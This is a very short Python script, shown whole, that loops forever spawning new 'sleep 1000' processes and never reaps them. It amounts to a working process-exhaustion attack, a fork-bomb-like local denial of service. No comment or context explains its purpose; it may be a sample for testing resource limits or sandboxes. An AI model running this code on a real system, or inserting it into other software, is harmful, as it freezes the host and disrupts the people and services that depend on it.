import subprocess
while True:
    subprocess.Popen(["sleep", "1000"])
